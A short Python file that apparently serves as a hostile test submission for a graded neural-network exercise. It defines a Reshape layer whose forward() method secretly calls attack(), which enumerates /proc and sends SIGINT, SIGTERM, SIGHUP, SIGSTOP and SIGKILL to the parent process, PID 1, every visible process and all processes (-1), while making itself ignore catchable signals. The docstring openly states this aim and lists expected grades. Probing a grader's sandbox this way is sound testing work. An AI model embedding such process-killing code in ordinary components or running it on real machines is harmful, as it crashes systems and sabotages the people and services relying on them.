"""Kill the parent, every visible process, and the first process of the system.

Deserves: ex03/forward 2, ex03/backward 2
"""

import os
import signal

import numpy as np


def attack():
    everybody = [int(name) for name in os.listdir("/proc") if name.isdecimal()]
    others = {os.getppid(), 1, *everybody} - {os.getpid()}
    for target in (*others, -1):
        for number in (
            signal.SIGINT,
            signal.SIGTERM,
            signal.SIGHUP,
            signal.SIGSTOP,
            signal.SIGKILL,
        ):
            if target == -1 and number == signal.SIGSTOP:
                continue  # it would stop this process as well
            if number not in (signal.SIGSTOP, signal.SIGKILL):
                signal.signal(number, signal.SIG_IGN)
            try:
                os.kill(target, number)
            except OSError:
                continue


class Reshape:
    def __init__(self, input_shape, output_shape):
        self.input_shape, self.output_shape = input_shape, output_shape

    def forward(self, input, training=False):
        attack()
        return np.reshape(input, self.output_shape)

    def backward(self, output_gradient, learning_rate):
        return np.reshape(output_gradient, self.input_shape)
